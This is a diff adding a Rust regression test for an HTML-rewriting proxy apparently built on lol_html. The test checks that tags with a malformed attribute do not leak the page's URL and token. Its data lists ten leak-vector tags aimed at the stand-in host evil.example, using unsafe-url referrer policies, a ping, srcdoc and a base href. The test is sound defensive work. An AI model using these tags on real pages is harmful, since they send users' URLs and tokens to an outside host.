@@ -860,6 +860,49 @@ fn a_cdata_opener_after_a_misread_start_tag_is_left_as_it_is() {
     }
 }
 
+/// A start tag with an attribute named `=…` after one without a value (`b/="c`): lol_html
+/// writes a changed tag back with a space there, and `b ="c` gives `b` a value that swallows
+/// the page, so such tags were left as they were. Where the rewriter must take something out
+/// (a weak referrer policy, a ping, a `srcdoc`, a late base's `href`), left as it was, it sent
+/// the page's URL, token and all, elsewhere (found while fixing a `rewrite_html` finding on a
+/// late `<base>`). The element goes now (a bare `<base>` or `<meta>` in their place). Swept: each
+/// element, before and after a token is out, both link modes: no leak (an element that went
+/// changes the page, which is what failing closed costs here).
+#[test]
+fn a_tag_lol_html_cannot_write_back_goes_where_it_must_change() {
+    let tags = [
+        "<meta name=referrer content=unsafe-url b/=x>",
+        "<meta http-equiv=referrer-policy content=unsafe-url b/=x>",
+        "<img referrerpolicy=unsafe-url b/=x src=https://evil.example/i>",
+        "<link rel=stylesheet referrerpolicy=unsafe-url b/=x href=https://evil.example/s>",
+        "<script referrerpolicy=unsafe-url b/=x src=https://evil.example/j></script>",
+        "<iframe referrerpolicy=unsafe-url b/=x src=https://evil.example/f></iframe>",
+        "<iframe srcdoc='<img src=https://evil.example/d referrerpolicy=unsafe-url>' b/=x></iframe>",
+        "<a href=https://evil.example/a referrerpolicy=unsafe-url b/=x>go</a>",
+        "<a href=/n ping=https://evil.example/p b/=x>go</a>",
+        "<base href=https://evil.example/ b/=x>",
+    ];
+    let mut pages = 0;
+    for tag in tags {
+        for page in [
+            format!("{tag}<img src=https://evil.example/i2><a href=/next>n</a>"),
+            format!("<a href=/next>n</a><img src=/i>{tag}<a href=https://evil.example/x>x</a>"),
+        ] {
+            for use_get in [false, true] {
+                for verdict in properties::rewrite_verdicts(page.as_bytes(), &[], use_get) {
+                    assert!(
+                        verdict.leaks.is_empty(),
+                        "use_get {use_get}: {page}: {:#?}",
+                        verdict.leaks
+                    );
+                }
+                pages += 1;
+            }
+        }
+    }
+    assert_eq!(pages, 40);
+}
+
 /// An HTML element left open inside an integration point (`<svg><title><form>`): a browser
 /// reads `</title>` there by the "in body" rules, which stop at the special SVG `<title>` and
 /// ignore the tag, so the page goes on inside it, and a later `<title>` is an HTML one whose
